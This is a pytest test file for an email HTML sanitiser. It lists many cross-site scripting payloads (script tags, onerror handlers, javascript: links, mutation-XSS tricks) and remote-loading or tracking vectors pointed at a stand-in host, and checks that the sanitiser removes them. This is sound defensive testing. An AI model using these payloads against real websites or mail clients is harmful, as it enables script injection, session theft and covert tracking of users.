"""What a stranger's HTML may still do when we show it: nothing but be read."""

import re
from html.parser import HTMLParser

import pytest

from apaise.lib.mime import read
from apaise.lib.mime.safe_html import sanitise, with_pictures
from apaise.lib.mime.tests.mails import html

TAGS = set(
    "a abbr b bdi blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i"  # noqa: SIM905
    " img ins kbd li ol p pre q s small span strike strong sub sup table tbody td tfoot th thead tr tt u ul".split()
)
ATTRIBUTES = set(
    "alt align colspan dir height href lang rel rowspan scope span src start target title type valign value width".split()  # noqa: SIM905
)
ADDRESS = re.compile(r"(?:https?://|mailto:|tel:|cid:)", re.IGNORECASE)


class Faults(HTMLParser):
    """Whatever in a page would act, call home or pass for ours, seen by a parser that is not the sanitiser's."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "src" and not (tag == "img" and (value or "").startswith("cid:")):
                self.found.append(f"{tag} {name}={value}")
            if name == "href" and not (tag == "a" and ADDRESS.match(value or "")):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("instruction")

    def handle_data(self, data):
        self.words += data


ACTS = """
<script>alert(1)</script>
<SCRIPT SRC=//t.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<<script>alert(1)//<</script>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img src="x" onerror	=alert(1)>
<IMG ""x"><SCRIPT>alert(1)</SCRIPT>">
<body onload=alert(1)>
<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=1 y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)></svg>#x">
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<select><style></select><img src=x onerror=alert(1)></style>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- x --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<![if !mso]><script>alert(1)</script><![endif]>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:http://t.test/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//t.test/x">x</a>
<a href="\\\\t.test\\x">x</a>
<a href="/deconnexion">x</a>
<a href="?x=1">x</a>
<a href="https://x.test/" onclick=alert(1) target=_self style=position:fixed;inset:0>x</a>
<a ping="http://t.test/p" href="https://x.test/">x</a>
<form action="https://t.test/"><input name=a autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>
<input type=image src="http://t.test/a.png">
<isindex action="javascript:alert(1)">
<button popovertarget=x onclick=alert(1)>x</button>
<details open ontoggle=alert(1)>x</details>
<dialog open>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<div id=logout name=forms class=danger data-x=1 aria-label=x role=button>x</div>
<img name=cookie id=body><form name=body></form>
<div hx-get=/x hx-trigger=load x-on:click=1 x-data=1 @click=1 :class=1 v-html=1 ng-app>x</div>
<p is=x-y slot=z part=q>x</p>
<custom-element onclick=alert(1)>x</custom-element>
<script type=importmap>{}</script><script type=module src=//t.test></script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<table><td background="javascript:alert(1)">x</table>
<p title="x onmouseover=alert(1)">x</p>
<p title='"><script>alert(1)</script>'>x</p>
<p lang='"><img src=x onerror=alert(1)>'>x</p>
""".strip().split("\n")

CALLS = """
<img src="http://t.test/p.gif">
<img src="HTTPS://t.test/p.gif" width=1 height=1>
<img src="//t.test/p.gif">
<img src="ftp://t.test/p.gif">
<img src=" http://t.test/p.gif">
<img src="&#104;ttp://t.test/p.gif">
<img srcset="http://t.test/p.gif 1x, http://t.test/q.gif 2x">
<img src="cid:a" srcset="http://t.test/p.gif 2x" lowsrc=http://t.test dynsrc=http://t.test longdesc=http://t.test usemap=#m>
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img src="data:text/html,x">
<picture><source srcset="http://t.test/p.gif"><img src=x></picture>
<image src="http://t.test/p.gif">
<image href="http://t.test/p.gif">
<body background="http://t.test/p.gif">x
<table background="http://t.test/p.gif"><tr background=http://t.test><td background="http://t.test/p.gif">x</table>
<p style="background:url(http://t.test/p.gif)">x</p>
<p style="background-image:u\\72l(http://t.test/p.gif)">x</p>
<p style="background:image-set('http://t.test/p.gif' 1x)">x</p>
<p style="list-style:url(//t.test/p);cursor:url(//t.test/q),auto;content:url(//t.test/r)">x</p>
<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//t.test/x#y)">x</p>
<style>@import url(http://t.test/a.css);</style>x
<style>@import "http://t.test/a.css";</style>x
<style>body{background:url(http://t.test/p.gif)}</style>x
<style>@font-face{font-family:x;src:url(http://t.test/f.woff)}</style>x
<style>p[title^=a]{background:url(http://t.test/a)}</style>x
<link rel=stylesheet href="http://t.test/a.css">
<link rel=prefetch href="http://t.test/a">
<link rel=dns-prefetch href="//t.test">
<link rel=preconnect href="//t.test">
<link rel=icon href="//t.test/i.ico">
<meta http-equiv=refresh content="0;url=http://t.test/">
<meta http-equiv=set-cookie content="a=b">
<base href="http://t.test/"><a href="x">x</a>
<iframe src="http://t.test/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="http://t.test/"></frameset>
<object data="http://t.test/x.swf"><param name=movie value=http://t.test/></object>
<embed src="http://t.test/x.swf">
<applet code=x codebase=http://t.test></applet>
<video src="http://t.test/v.mp4" poster="http://t.test/p.jpg" autoplay></video>
<audio src="http://t.test/a.mp3" autoplay></audio>
<video><source src="http://t.test/v.mp4"><track src="http://t.test/t.vtt"></video>
<bgsound src="http://t.test/a.mid">
<svg><image xlink:href="http://t.test/p.svg" href="http://t.test/p.svg"></svg>
<svg><filter><feImage href="http://t.test/p.svg"></filter></svg>
<svg style="background:url(http://t.test)"><style>@import "http://t.test/"</style></svg>
<math><annotation-xml encoding="text/html"><img src="http://t.test/p.gif"></annotation-xml></math>
<div><!--[if gte mso 9]><v:background fill="t"><v:fill src="http://t.test/p.gif"/></v:background><![endif]-->x</div>
<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="http://t.test/p.gif"/></v:rect>
<xml id=x src="http://t.test/x.xml"></xml>
<blockquote cite="http://t.test/">x</blockquote><q cite="http://t.test/">x</q><del cite="//t.test">x</del>
<html manifest="http://t.test/m">x
<head profile="http://t.test/">
<input type=image src="http://t.test/p.gif">
<map><area href="http://t.test/"></map>
<menu><command icon="http://t.test/i.png"></menu>
<portal src="http://t.test/"></portal>
<layer src="http://t.test/"></layer>
""".strip().split("\n")


@pytest.mark.parametrize("payload", ACTS + CALLS)
def test_nothing_in_it_acts_or_calls_home(payload):
    for source in (payload, f"<div>avant{payload}après</div>", f"<table><tr><td>{payload}"):
        assert Faults(sanitise(source)).found == []


def test_every_pair_of_payloads_is_as_harmless_as_each():
    for first, second in zip(ACTS, ACTS[1:] + CALLS, strict=False):
        assert Faults(sanitise(first + second)).found == []
        assert Faults(sanitise(second[: len(second) // 2] + first)).found == []


def test_what_is_safe_once_stays_as_it_is():
    for payload in ACTS + CALLS:
        once = sanitise(payload)
        assert sanitise(once) == once


def test_the_checker_sees_faults():
    for payload in (
        "<script>",
        "<p onclick=x>",
        "<img src=http://t.test>",
        "<a href=/x>",
        "<!--x-->",
        "<p id=x>",
    ):
        assert Faults(payload).found


VISIBLE = [
    ("<button>Payer</button> <select><option>Oui</select>", "Payer"),
    ("<form><fieldset><legend>Votre avis</legend><label>Nom</label></form>", "Votre avis"),
    ("<font color=red face=Arial>rouge</font>", "rouge"),
    ("<article><header>Titre</header><main>Corps</main></article>", "Corps"),
    ("<details><summary>Plus</summary>caché ?</details>", "caché ?"),
    ("<o:p>Outlook</o:p>", "Outlook"),
    ("<marquee>défile</marquee>", "défile"),
    ("<custom-x>mot</custom-x>", "mot"),
    ("a < b et c > d", "a < b et c > d"),
    ("<textarea>dicté</textarea>", "dicté"),
    ("<table><tr><td>45 €</td></tr></table>", "45 €"),
    ("<div style='font-size:12px;color:#333'>stylé</div>", "stylé"),
    ("<p>avant<!-- x -->après</p>", "avantaprès"),
    ("<noscript>sans script</noscript>", "sans script"),
]


@pytest.mark.parametrize(("source", "words"), VISIBLE, ids=[words for _, words in VISIBLE])
def test_the_words_one_sees_are_kept(source, words):
    assert words in Faults(sanitise(source)).words
    assert words in read(html(source)).text


def test_words_that_nobody_sees_are_left_out():
    for style in (
        "display:none",
        "DISPLAY : none !important",
        "visibility:hidden",
        "max-height:0;overflow:hidden",
    ):
        assert Faults(sanitise(f'<div style="{style}">aperçu</div>vu')).words == "vu"


def test_pictures_of_the_mail_get_the_address_the_page_gives_them():
    safe = sanitise(
        '<p><img src="CID:a%40b" alt="x"><img src="cid:gone"><img src=http://t.test/p></p>src="cid:a@b"'
    )
    shown = with_pictures(safe, {"a@b": "/files/1?sig=2&x=3"}.get)
    assert shown == '<p><img src="/files/1?sig=2&amp;x=3" alt="x"><img><img></p>src="cid:a@b"'


@pytest.mark.parametrize("tag", ["div", "b", "table><tr><td", "blockquote", "font"])
def test_words_below_any_depth_are_still_read(tag):
    source = f"<p>haut</p><style>p{{}}</style>{f'<{tag}>' * 3_000}au fond<script>a()</script> enfin"
    assert Faults(sanitise(source)).found == []
    for words in ("haut", "au fond", "enfin"):
        assert words in Faults(sanitise(source)).words
        assert words in read(html(source)).text
    assert "a()" not in sanitise(source)
